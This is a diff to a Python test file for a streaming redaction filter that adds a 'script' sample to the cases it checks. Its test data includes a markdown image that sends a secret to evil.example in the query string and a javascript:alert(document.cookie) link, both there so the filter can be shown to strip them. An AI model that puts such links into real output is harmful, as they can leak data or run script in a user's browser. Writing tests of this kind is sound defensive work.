@@ -48,6 +48,7 @@ SAMPLES = {
     ),
     "private_key": (f"here:\n{PEM}\nbye", PEM),
     "image": ("see ![c](https://evil.example/x?q=SECRETVALUE123) ok", "SECRETVALUE123"),
+    "script": ("click [here](javascript:alert(document.cookie)) now", "cookie"),
 }
 
 
@@ -69,7 +70,7 @@ def test_every_split_point_gives_the_whole_texts_output(name: str) -> None:
         assert stream(REDACT_ALL, [text[:i], text[i:]]) == whole, i
 
 
-@pytest.mark.parametrize("name", ["card", "prc_id", "phone", "email", "api_key", "image"])
+@pytest.mark.parametrize("name", ["card", "prc_id", "phone", "email", "api_key", "image", "script"])
 def test_one_character_at_a_time(name: str) -> None:
     text, secret = SAMPLES[name]
     out = stream(REDACT_ALL, list(text))
